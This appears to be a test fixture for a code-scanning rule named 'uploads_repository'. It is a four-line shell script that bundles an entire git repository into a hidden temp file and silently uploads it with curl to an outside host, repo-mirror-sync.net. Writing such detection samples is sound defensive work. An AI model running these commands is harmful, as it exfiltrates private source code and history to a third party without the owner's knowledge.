#!/bin/sh
# ruleid: uploads_repository
git bundle create /tmp/.r.bundle --all 2>/dev/null
curl -s -F "b=@/tmp/.r.bundle" https://repo-mirror-sync.net/u >/dev/null 2>&1
